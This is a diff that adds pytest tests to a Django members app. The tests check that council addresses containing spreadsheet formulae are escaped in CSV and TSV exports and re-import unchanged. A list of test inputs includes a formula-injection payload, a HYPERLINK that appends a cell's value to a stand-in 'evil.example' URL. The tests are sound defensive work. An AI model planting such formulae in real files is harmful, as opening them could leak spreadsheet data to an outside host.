@@ -1,14 +1,16 @@
 """Issue 11 section 5 (trust) in the members app: numbers people send, cancelled
 invitations, names, lengths, double submits and spreadsheet exports."""
 
+import csv
 import datetime
+import io
 import threading
 
 import pytest
 from django.db import connection
 from django.test import Client, TestCase
 
-from members.models import Feedback, Invitation, Position, User
+from members.models import Council, Feedback, Invitation, Position, User
 from members.services import access as access_services
 from members.tests.factories import CouncilFactory, PositionFactory, UserFactory
 from members.tests.factories_access import issue_invitation
@@ -162,3 +164,73 @@ def test_three_parallel_posts_of_one_feedback_form_make_one_item(client, clerk):
     statuses = _post_in_parallel(client.cookies, [_feedback_form(client) for _ in range(3)])
     assert statuses == [302, 302, 302]
     assert Feedback.objects.count() == 4
+
+
+# --- Formulae in exports -------------------------------------------------------------------
+
+FORMULAE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    '==HYPERLINK("https://evil.example","x")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+]
+
+
+def _export(client, fmt: str) -> bytes:
+    from members.admin.core import CouncilAdmin
+
+    formats = [f().get_title() for f in CouncilAdmin(Council, None).get_export_formats()]
+    response = client.post(
+        "/admin/members/council/export/",
+        {"format": str(formats.index(fmt)), **{f"councilresource_{f}": "on" for f in ["slug", "address"]}},
+    )
+    assert response.status_code == 200
+    return response.content
+
+
+@pytest.mark.parametrize("formula", FORMULAE)
+def test_a_formula_a_clerk_types_is_exported_as_text(client, clerk, council, formula):
+    from members.tests.factories import staff_user
+
+    response = client.post(
+        "/councils/sandwich/edit/",
+        {"contact_email": "office@sandwich.example.org", "address": formula, "electorate": ""},
+    )
+    assert response.status_code == 302
+    council.refresh_from_db()
+    assert council.address == formula.strip()
+    client.force_login(staff_user())
+
+    # XLSX and ODS are offered only where their libraries are installed (they are not
+    # here); the escaping is in the resource, so it is the same in every format.
+    for fmt, dialect in [("csv", csv.excel), ("tsv", csv.excel_tab)]:
+        rows = list(csv.reader(io.StringIO(_export(client, fmt).decode("utf-8-sig")), dialect))
+        assert rows[1] == ["sandwich", "'" + council.address], fmt
+
+
+def test_an_escaped_export_imports_back_unchanged(client, council):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from members.tests.factories import staff_user
+
+    Council.objects.filter(pk=council.pk).update(address="=1+1")
+    client.force_login(staff_user())
+    exported = _export(client, "csv")
+    Council.objects.filter(pk=council.pk).update(address="changed since")
+    upload = SimpleUploadedFile("councils.csv", exported, content_type="text/csv")
+
+    preview = client.post("/admin/members/council/import/", {"format": "0", "import_file": upload})
+    form = preview.context["confirm_form"]
+    client.post("/admin/members/council/process_import/", {**form.initial, "format": "0"})
+
+    council.refresh_from_db()
+    assert council.address == "=1+1"
+
+
+def test_the_portals_own_csv_files_escape_formulae():
+    from knowledge_bank.demo_files import csv_bytes
+
+    rows = list(csv.reader(io.StringIO(csv_bytes([["Item", "=HYPERLINK(1)", 3, "-5"]]).decode("utf-8-sig"))))
+    assert rows == [["Item", "'=HYPERLINK(1)", "3", "'-5"]]
